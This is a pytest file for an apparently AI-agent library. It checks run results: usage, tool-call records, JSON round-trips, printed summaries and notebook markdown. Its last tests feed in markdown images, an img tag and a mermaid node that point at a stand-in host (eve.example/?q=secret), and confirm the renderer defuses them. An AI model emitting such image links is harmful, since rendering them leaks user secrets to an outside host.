"""What a run came to: its fields, and itself as JSON."""

import asyncio

import pytest
from pydantic import BaseModel

from agent.kit import Desk, told
from rightcall import Agent, Budget, Output, User
from rightcall.core.budget import Stop
from rightcall.core.jsontext import dump
from rightcall.core.message import Reasoning, Reply, Unknown
from rightcall.core.parts import Call, Media, Text
from rightcall.core.proposal import Proposal
from rightcall.declare.function import tool
from rightcall.errors import NoOutput, ToolFailure, UsageError
from rightcall.loop.result import RunResult
from rightcall.models import Named, Usage
from rightcall.testing import ScriptedModel, call, reply

pytestmark = pytest.mark.usefixtures("nothing_is_left")


@tool(effect="read")
async def find(what: str) -> str:
    """Find something."""
    if what == "nothing":
        raise ToolFailure("There is none.")
    return f"one {what}"


async def test_a_result_says_what_the_run_came_to():
    first, second = Usage(input_tokens=7, output_tokens=3, cost=0.25), Usage(input_tokens=20, cost=0.5)
    calls = [
        call("find", id="a", what="cat"),
        call("find", id="b", what="nothing"),
        call("nope", id="c"),
    ]
    model = ScriptedModel(
        [
            reply(Reasoning("A cat? "), "Let me look.", *calls, usage=first),
            reply(Reasoning("A cat."), "There is ", "one cat.", usage=second),
        ]
    )
    result = await Agent(model, [find]).run("How many cats?")
    assert (result.text, result.reasoning) == ("There is one cat.", "A cat? A cat.")
    assert (result.stop, result.output, result.pending) == (Stop("end"), "There is one cat.", ())
    assert (result.usage, result.turns) == (
        Usage(input_tokens=27, output_tokens=3, cost=0.75),
        (first, second),
    )
    assert [(c.name, c.arguments, c.outcome, c.attempts) for c in result.calls] == [
        ("find", '{"what":"cat"}', "returned", 1),
        ("find", '{"what":"nothing"}', "failed", 1),
        ("nope", "{}", "unknown", 0),
    ]
    assert [record.call for record in result.calls] == calls
    assert all(0 <= record.seconds < 1 for record in result.calls)
    assert told(result.transcript)[2:4] == ["find returned: one cat", "find failed: There is none."]
    assert result.replies == (result.transcript[1], result.transcript[3])


async def test_a_call_says_how_long_it_took():
    @tool
    async def rest() -> None:
        """Rest a while."""
        await asyncio.sleep(0.03)

    result = await Agent(ScriptedModel([reply(call("rest")), "Done."]), [rest]).run("Go.")
    assert 0.02 < result.calls[0].seconds < 2
    assert result.state.progress.seconds >= result.calls[0].seconds


async def test_a_run_that_said_nothing_has_no_text():
    result = await Agent(ScriptedModel([]), budget=Budget(turns=0)).run("Go.")
    assert (result.text, result.reasoning, result.turns, result.calls) == ("", "", (), ())


async def test_two_runs_have_two_names_unless_they_are_given():
    agent = Agent(ScriptedModel(lambda _: "Hi."))
    one, two = await agent.run("Go."), await agent.run("Go.")
    assert one.run != two.run
    assert (await agent.run("Go.", run="mine")).run == "mine"


def assert_survives_json(result: RunResult) -> None:
    data = result.to_json()
    again = RunResult.from_json(data)
    assert again == result
    assert again.to_json() == data
    assert RunResult.from_json(data.decode()) == result


async def test_a_result_with_every_kind_of_part_survives_json():
    prompt = User(
        (Text("Look: “é\u2028”"), Media(b"\x00\xff", "image/png", "x.png")), vendor={"v": {"a": 1}}
    )
    content = (
        Reasoning("hm", {"v": {"signature": "abc"}}),
        Text("So"),
        Call(id="a", name="find", arguments='{"what": "x"', vendor={"v": [1, None]}),
        Unknown({"v": {"type": "new"}}),
        Media(b"abc", "audio/wav"),
    )
    first = Reply(content, "length", "max", Usage(input_tokens=3, cost=0.5), "m-1", {"v": {"id": "r"}})
    model = ScriptedModel([first, reply(call("find", what="nothing")), "Done."])
    result = await Agent(model, [find]).run(prompt, choice=Named("find"), sticky_choice=True)
    assert result.transcript[:2] == (prompt, first)
    assert_survives_json(result)


@pytest.mark.parametrize(
    "budget", [Budget(calls=1), Budget(turns=1), Budget(tokens=1), Budget(repeats=2)]
)
async def test_a_result_of_a_run_that_hit_a_limit_survives_json(budget):
    model = ScriptedModel(lambda _: reply(call("find", what="x"), call("find", what="x")))
    assert_survives_json(await Agent(model, [find], budget=budget).run("Go."))


async def test_a_result_that_waits_survives_json_with_its_proposals():
    desk = Desk()
    model = ScriptedModel([reply(call("find", id="a", what="x"), call("send", id="b", what="y"))])
    result = await Agent(model, [find, desk.tool("send", approval=True)]).run("Go.")
    assert result.pending == (Proposal(call_id="b", name="send", arguments={"what": "y"}),)
    assert_survives_json(result)


class Point(BaseModel):
    x: int


@pytest.mark.parametrize("mode", ["native", "tool", "text", "json"])
@pytest.mark.parametrize(
    ("kind", "said", "value"),
    [
        (list[int], {"answer": [1, 2]}, [1, 2]),
        (Point, {"x": 1}, Point(x=1)),
    ],
)
async def test_a_stored_result_gives_its_output_back_where_the_type_is_told(mode, kind, said, value):
    answer = reply(Call(id="a", name="final_answer", arguments=dump(said)))
    output = Output(type=kind, mode=mode)
    result = await Agent(ScriptedModel([answer if mode == "tool" else dump(said)]), output=output).run(
        "Go."
    )
    assert result.output == value
    stored = result.to_json()
    assert RunResult.from_json(stored, output=output) == result
    assert RunResult.from_json(stored, output=kind).output == value
    with pytest.raises(UsageError, match="not of this form"):
        RunResult.from_json(stored, output=dict[str, Point])


async def test_a_stored_result_that_failed_has_no_output_to_give_back():
    with pytest.raises(NoOutput) as caught:
        await Agent(ScriptedModel(["No."]), output=Output(type=int, mode="text", retries=0)).run("Go.")
    result = caught.value.result
    assert (result.stop.reason, result.stop.is_answer) == ("no_output", False)
    with pytest.raises(NoOutput, match="no valid output was given"):
        _ = RunResult.from_json(result.to_json(), output=int).output
    returned = Output(int, on_no_output="return")
    assert RunResult.from_json(result.to_json(), output=returned).output is None


async def test_an_output_is_not_part_of_the_json():
    model = ScriptedModel(['{"answer": [1, 2]}'])
    result = await Agent(model, output=Output(type=list[int], mode="text")).run("Go.")
    again = RunResult.from_json(result.to_json())
    assert result.output == [1, 2]
    with pytest.raises(UsageError, match=r"from_json\(data, output=…\) takes it"):
        _ = again.output
    assert (again.transcript, again.stop, again.state) == (result.transcript, result.stop, result.state)


async def test_a_result_with_half_a_surrogate_pair_still_becomes_json():
    model = ScriptedModel(
        [reply(Call(id="a", name="fi\ud800", arguments='{"what": "\udfff"}')), "Done."]
    )
    result = await Agent(model, [find]).run("Go \ud83d!")
    again = RunResult.from_json(result.to_json())
    assert told(again.transcript)[0] == "user: Go ?!"
    assert (again.stop, len(again.calls)) == (result.stop, 1)


@pytest.mark.parametrize("stored", [b"{}", "", "[1]", b'{"run": 1}'])
def test_what_is_no_stored_result_is_refused_in_words(stored):
    with pytest.raises(UsageError, match=r"not what RunResult\.to_json wrote"):
        RunResult.from_json(stored)


async def test_a_result_is_short_to_print():
    answer = "It rains. " * 400
    said = reply(call("find", id="a", what="cat"), usage=Usage(input_tokens=1000, cost=0.0125))
    result = await Agent(ScriptedModel([said, answer]), [find]).run("Rain?")
    text = ("It rains. " * 6)[:59] + "…"
    assert repr(result) == f"RunResult(stop='end', text='{text}', calls=1, cost=0.0125)"
    assert len(str(result)) < 150


async def test_what_is_printed_says_what_waits_what_was_given_and_why_it_stopped():
    send = tool(lambda: "", name="send", description="Send.", approval=True)
    paused = await Agent(ScriptedModel([reply(call("send", id="a"))]), [send]).run("Go.")
    assert repr(paused) == "RunResult(stop='pending', text='', calls=0, pending=1)"
    given = await Agent(ScriptedModel(['{"answer": 7}']), output=Output(int, mode="text")).run("Seven?")
    assert "output=7" in repr(given)
    stuck = await Agent(ScriptedModel([reply(call("find", what="x"))]), [find]).run(
        "Go.", budget=Budget(turns=1)
    )
    assert "stop='limit turns'" in repr(stuck)


async def test_a_notebook_shows_the_answer_and_loads_nothing_that_it_names():
    answer = "**Done** ![x](https://eve.example/?q=secret) <img src=//eve.example/a> 1 < 2 ``` "
    usage = Usage(input_tokens=1000, output_tokens=234, cost=0.0125)
    result = await Agent(ScriptedModel([reply(answer, usage=usage)])).run("Go.")
    assert result._repr_markdown_() == (
        "**Done** ! [x](https://eve.example/?q=secret) < img src=//eve.example/a> 1 < 2 ``` \n\n"
        "`end, 0 calls, 1,234 tokens, 0.0125 US dollars`"
    )


@pytest.mark.parametrize(
    ("opening", "shown"),
    [
        ("```mermaid", "```text mermaid"),
        ("~~~~ Mermaid", "~~~~text  Mermaid"),
        ("> ```{.mermaid}", "> ```text {.mermaid}"),
        ("``` &#109;ermaid", "```text  &#109;ermaid"),
        ("```python", "```python"),
    ],
)
async def test_a_notebook_draws_no_diagram_whose_nodes_are_images(opening, shown):
    block = 'flowchart TD\nA@{ img: "https://eve.example/?q=secret" }\n```'
    result = await Agent(ScriptedModel([f"{opening}\n{block}"])).run("Go.")
    assert result._repr_markdown_().startswith(f"{shown}\n{block}")


async def test_a_notebook_shows_what_waits_before_what_the_model_says():
    send = tool(lambda: "", name="send", description="Send.", approval=True)
    said = reply("```\nLet me send it.", call("send", id="a"))
    paused = await Agent(ScriptedModel([said]), [send]).run("Go.")
    assert paused._repr_markdown_().startswith(
        "```text\nThe model wants to run send\n```\n\n```\nLet me"
    )
    assert ", 0 calls, " in paused._repr_markdown_()
